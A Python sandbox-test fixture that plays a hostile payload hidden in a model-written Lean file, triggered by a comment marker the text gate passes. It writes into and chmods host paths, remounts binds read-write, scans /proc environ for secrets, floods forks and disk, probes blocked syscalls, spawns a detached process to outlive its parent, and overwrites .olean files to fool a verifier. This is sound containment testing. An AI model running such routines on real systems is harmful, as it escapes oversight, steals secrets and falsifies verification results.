#!/usr/bin/env python3
"""A hostile stand-in for Lean: what a candidate file's elaboration-time code could try on the host.

Real Lean runs a file's `#eval`, macros and tactic configs; a model-written file can hide such code
where the text gate (lemmaforge/lean/gate/) does not see it. This stand-in plays that payload:
the fake REPL (fake_repl.py) and the fake `lake` (tests/fakes/lake) act on a comment line

    -- lemmaforge-hostile {"paths": [...], "secret": "...", ...}

in the text they elaborate (the gate passes comments, as it passes what it cannot name), and
`python hostile.py < PLAN_JSON` runs the same attacks outside any REPL (the sandbox's argument
builder tests). Every attack really happens; each is reported as `{"won": bool, "detail": str}`,
`won` meaning the attack did what it wanted (a test asserts none did).

Plan keys (all optional):
  paths     host paths to write into (directories: a new file; files: opened for writing and
            appended to), to chmod and to remount read-write (then written again)
  secret    a value of the parent's (an environment variable, a token) to look for in this
            process's environment and in every /proc/PID/environ and cmdline it can read
  parents   host pids of the parent (lemmaforge) whose /proc entries it tries to read
  fork      how many processes to try to start (each waits on a pipe; all are released after)
  fill_mb   how many MiB to try to write into $TMPDIR (then removed)
  orphan    a marker: start a detached process (new session, double fork) with it in its argv
            that sleeps for an hour, to outlive the parent
  hang      true: after the attacks, never answer (the parent is killed meanwhile)
  oleans    glob patterns of `.olean` files to overwrite with `forge` (SafeVerify's target)
  forge     the content written over them

Standard library only (ctypes for the system calls): it runs inside the sandbox with `python -S`.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import json
import os
import platform
import sys
import threading
from pathlib import Path
from typing import Any

MARKER = "-- lemmaforge-hostile "
MS_REMOUNT, MS_BIND = 32, 4096
MNT_DETACH = 2
CLONE_NEWUSER = 0x10000000
TIOCSTI = 0x5412
# system call numbers the libc has no wrapper for (or Python does not expose)
SYSCALLS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
               "unshare": 272},
    "aarch64": {"keyctl": 219, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "io_uring_setup": 425,
                "unshare": 97},
}

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _syscall(name: str, *args: int) -> tuple[int, int]:
    """(return value, errno) of the raw system call `name`."""
    number = SYSCALLS[platform.machine()][name]
    ctypes.set_errno(0)
    result = _libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in args))
    return int(result), ctypes.get_errno()


def _err(code: int) -> str:
    return errno.errorcode.get(code, str(code))


def plan_in(text: str) -> dict[str, Any] | None:
    """The plan of the first `-- lemmaforge-hostile {...}` line of `text`, None without one."""
    for line in text.splitlines():
        if line.startswith(MARKER):
            return json.loads(line[len(MARKER):])
    return None


# --- the attacks ---------------------------------------------------------------------------------------


def capabilities(_plan: dict[str, Any]) -> dict[str, Any]:
    status = Path("/proc/self/status").read_text(encoding="utf-8")
    caps = {line.split(":")[0]: line.split(":")[1].strip() for line in status.splitlines() if line.startswith("Cap")}
    held = any(int(caps.get(k, "0"), 16) for k in ("CapEff", "CapPrm", "CapAmb"))
    return {"won": held, "detail": " ".join(f"{k}={v}" for k, v in sorted(caps.items())), "caps": caps,
            "uid": os.getuid(), "gid": os.getgid()}


def _write_into(path: str) -> str | None:
    """None if nothing could be written at `path`, else what was done."""
    try:
        if os.path.isdir(path):
            target = os.path.join(path, f"hostile-{os.getpid()}")
            with open(target, "w", encoding="utf-8") as f:
                f.write("pwned")
            return f"created {target}"
        if os.path.lexists(path):
            with open(path, "a", encoding="utf-8") as f:
                f.write("\n-- pwned\n")
            return f"appended to {path}"
        with open(path, "w", encoding="utf-8") as f:
            f.write("pwned")
        return f"created {path}"
    except OSError:
        return None


def writes(plan: dict[str, Any]) -> dict[str, Any]:
    done, refused = [], {}
    for path in plan.get("paths", []):
        what = _write_into(path)
        if what:
            done.append(what)
            continue
        try:
            os.chmod(path, 0o777)
            done.append(f"chmod {path}")
        except OSError as exc:
            refused[path] = _err(exc.errno or 0)
    return {"won": bool(done), "detail": "; ".join(done) or f"refused: {refused}", "refused": refused}


def remount(plan: dict[str, Any]) -> dict[str, Any]:
    """Remount each path's (read-only) bind read-write, then write into it; detach it."""
    done, refused = [], {}
    for path in plan.get("paths", []):
        ctypes.set_errno(0)
        result = _libc.mount(None, path.encode(), None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None)
        code = ctypes.get_errno()
        if result == 0:
            done.append(f"remounted {path} read-write")
            what = _write_into(path)
            if what:
                done.append(what)
        else:
            refused[path] = _err(code)
        if _libc.umount2(path.encode(), MNT_DETACH) == 0:
            done.append(f"detached {path}")
    return {"won": bool(done), "detail": "; ".join(done) or f"refused: {refused}", "refused": refused}


def secrets(plan: dict[str, Any]) -> dict[str, Any]:
    secret = str(plan.get("secret") or "")
    found = []
    if secret:
        found += [f"environment {k}" for k, v in os.environ.items() if secret in v or secret in k]
        for entry in sorted(glob.glob("/proc/[0-9]*")):
            for name in ("environ", "cmdline"):
                try:
                    data = Path(entry, name).read_bytes()
                except OSError:
                    continue
                if secret.encode() in data:
                    found.append(f"{entry}/{name}")
    for pid in plan.get("parents", []):
        for name in ("environ", "cmdline", "status"):
            try:
                data = Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                continue
            if not secret or secret.encode() in data or name == "environ":
                found.append(f"/proc/{pid}/{name} readable")
    visible = len(glob.glob("/proc/[0-9]*"))
    return {"won": bool(found), "detail": "; ".join(found) or f"no secret in {visible} visible processes",
            "environment": sorted(os.environ)}


def fork(plan: dict[str, Any]) -> dict[str, Any]:
    """Start up to `fork` processes that wait on a pipe; how many started, and why the next did not."""
    wanted = int(plan.get("fork", 0))
    if not wanted:
        return {"won": False, "detail": "not tried", "started": 0}
    read, write = os.pipe()
    children, why = [], ""
    for _ in range(wanted):
        try:
            pid = os.fork()
        except OSError as exc:
            why = _err(exc.errno or 0)
            break
        if pid == 0:
            os.close(write)
            try:
                os.read(read, 1)
            finally:
                os._exit(0)
        children.append(pid)
    os.close(write)  # every child's read returns: they exit
    for pid in children:
        os.waitpid(pid, 0)
    os.close(read)
    return {"won": len(children) >= wanted, "detail": f"started {len(children)} of {wanted} ({why or 'no refusal'})",
            "started": len(children), "error": why}


def fill_tmp(plan: dict[str, Any]) -> dict[str, Any]:
    wanted = int(plan.get("fill_mb", 0))
    if not wanted:
        return {"won": False, "detail": "not tried", "written_mb": 0}
    where = os.path.join(os.environ.get("TMPDIR") or "/tmp", f"fill-{os.getpid()}")
    written, why = 0, ""
    block = b"\0" * (1 << 20)
    try:
        with open(where, "wb") as f:
            for _ in range(wanted):
                f.write(block)
                f.flush()
                written += 1
            os.fsync(f.fileno())
    except OSError as exc:
        why = _err(exc.errno or 0)
    finally:
        try:
            os.unlink(where)
        except OSError:
            pass
    others = []
    for place in ("/dev/shm", "/dev", "/"):
        if _write_into(place):
            others.append(place)
    won = written >= wanted or bool(others)
    return {"won": won, "detail": f"wrote {written} of {wanted} MiB in {where} ({why or 'no refusal'}); "
            f"writable elsewhere: {others or 'nothing'}", "written_mb": written, "error": why, "elsewhere": others}


def seccomp(_plan: dict[str, Any]) -> dict[str, Any]:
    """The calls Lean never makes: each one's errno (EPERM where the filter refuses it)."""
    results: dict[str, str] = {}
    c = ctypes.c_char(b"x")
    ctypes.set_errno(0)
    result = _libc.ioctl(0, TIOCSTI, ctypes.byref(c))
    results["ioctl TIOCSTI"] = "ok" if result == 0 else _err(ctypes.get_errno())
    for name, args in (("keyctl", (0, -3, 0)), ("bpf", (5, 0, 0)), ("perf_event_open", (0, 0, -1, -1, 0)),
                       ("userfaultfd", (0,)), ("io_uring_setup", (1, 0)), ("unshare", (CLONE_NEWUSER,))):
        result, code = _syscall(name, *args)
        results[name] = "ok" if result >= 0 else _err(code)
    # what Lean does all the time still works: files in TMPDIR, threads, processes, memory maps
    normal = []
    try:
        path = os.path.join(os.environ.get("TMPDIR") or "/tmp", "normal")
        Path(path).write_text("ok", encoding="utf-8")
        normal.append(Path(path).read_text(encoding="utf-8") == "ok")
        os.unlink(path)
        thread = threading.Thread(target=lambda: None)
        thread.start()
        thread.join()
        normal.append(True)
        import mmap

        with mmap.mmap(-1, 1 << 20) as m:
            m[0] = 1
        normal.append(True)
    except OSError:
        normal.append(False)
    won = any(v != "EPERM" for v in results.values())
    return {"won": won, "detail": json.dumps(results), "errno": results, "normal_calls_work": all(normal)}


def orphan(plan: dict[str, Any]) -> dict[str, Any]:
    marker = plan.get("orphan")
    if not marker:
        return {"won": False, "detail": "not tried"}
    pid = os.fork()
    if pid == 0:  # double fork in a new session: reparented, no controlling terminal, own group
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(3600)", str(marker)])
        os._exit(0)
    os.waitpid(pid, 0)
    return {"won": False, "detail": f"started a detached sleeper marked {marker} (the host checks it is gone)"}


def overwrite_oleans(plan: dict[str, Any], source: str | None = None) -> dict[str, Any]:
    patterns = list(plan.get("oleans", []))
    if source:
        patterns.append(os.path.join(os.path.dirname(os.path.abspath(source)), "*.olean"))
    done = []
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                Path(path).write_text(str(plan.get("forge", "")), encoding="utf-8")
                done.append(path)
            except OSError:
                continue
    return {"won": bool(done), "detail": f"overwrote {done}" if done else f"no olean writable ({patterns})"}


ATTACKS = {
    "capabilities": capabilities,
    "writes": writes,
    "remount": remount,
    "secrets": secrets,
    "fork": fork,
    "fill_tmp": fill_tmp,
    "seccomp": seccomp,
}


def attack(plan: dict[str, Any], source: str | None = None) -> dict[str, dict[str, Any]]:
    """Run every attack of `plan` (the olean overwrite too where `source`, the file being compiled,
    is given or the plan names oleans); then the orphan, then the hang."""
    report: dict[str, dict[str, Any]] = {}
    for name, run in ATTACKS.items():
        try:
            report[name] = run(plan)
        except Exception as exc:  # an attack that crashed did not win; say why
            report[name] = {"won": False, "detail": f"crashed: {type(exc).__name__}: {exc}"}
    if source is not None or plan.get("oleans"):
        report["oleans"] = overwrite_oleans(plan, source)
    report["orphan"] = orphan(plan)
    if plan.get("hang"):
        threading.Event().wait()  # keeps its process alive until the sandbox (or the test) kills it
    return report


def messages(text: str, source: str | None = None) -> list[dict[str, Any]]:
    """REPL-style messages for `text`'s plan: one error per attack that won, one info holding the
    whole report (JSON). Empty without a plan."""
    plan = plan_in(text)
    if plan is None:
        return []
    report = attack(plan, source)
    at = text.find(MARKER)
    pos = {"line": text.count("\n", 0, at) + 1, "column": 0}
    found = [{"severity": "error", "pos": pos, "endPos": pos, "data": f"hostile: {name} won: {r['detail']}"}
             for name, r in report.items() if r["won"]]
    found.append({"severity": "info", "pos": pos, "endPos": pos, "data": "hostile report: " + json.dumps(report)})
    return found


def report_of(messages_data: list[str]) -> dict[str, dict[str, Any]] | None:
    """The report carried by an info message (`hostile report: …`), None without one."""
    for data in messages_data:
        if data.startswith("hostile report: "):
            return json.loads(data[len("hostile report: "):])
    return None


if __name__ == "__main__":  # the plan on stdin (on argv it would be in /proc/PID/cmdline: a false find)
    print(json.dumps(attack(json.loads(sys.stdin.read()), sys.argv[1] if len(sys.argv) > 1 else None)))


# --- the host's side (tests): what to attack, and whether anything changed or survived -------------


class Victims:
    """Host files a payload would like to poison, laid out like a real install: the project's
    built `.lake` files, a toolchain (elan's home with `lake`), the REPL binary. `snapshot()`
    records every file and directory under them (content hash, mode) to compare after."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.project = root / "project"
        self.toolchain = root / "elan"
        self.repl = root / "repl"
        self.lake = self.toolchain / "bin" / "lake"
        self.repl_binary = self.repl / ".lake" / "build" / "bin" / "repl"
        self.olean = self.project / ".lake" / "build" / "lib" / "P.olean"
        for path, text in ((self.project / "lean-toolchain", "leanprover/lean4:v4.19.0\n"),
                           (self.project / "lakefile.toml", 'name = "P"\n'), (self.olean, "olean"),
                           (self.lake, "#!/bin/sh\n"), (self.repl_binary, "#!/bin/sh\n")):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")

    @property
    def roots(self) -> list[Path]:
        return [self.project, self.toolchain, self.repl]

    @property
    def paths(self) -> list[str]:
        """Every directory and file a payload tries to write into."""
        return [str(p) for p in (*self.roots, self.project / ".lake" / "build", self.olean, self.lake,
                                 self.repl_binary)]

    def snapshot(self) -> dict[str, tuple[str, int]]:
        import hashlib

        seen: dict[str, tuple[str, int]] = {}
        for path in sorted(self.root.rglob("*")):
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
            seen[str(path)] = (digest, path.stat().st_mode)
        return seen


def processes_with(marker: str) -> list[int]:
    """Host pids whose command line holds `marker` (an orphan the payload started)."""
    import psutil

    found = []
    for process in psutil.process_iter(["cmdline"]):
        try:
            if any(marker in part for part in process.info["cmdline"] or []):
                found.append(process.pid)
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
    return found


def kill_marked(marker: str) -> None:
    """Kill what an unsandboxed control run left behind."""
    import signal

    for pid in processes_with(marker):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
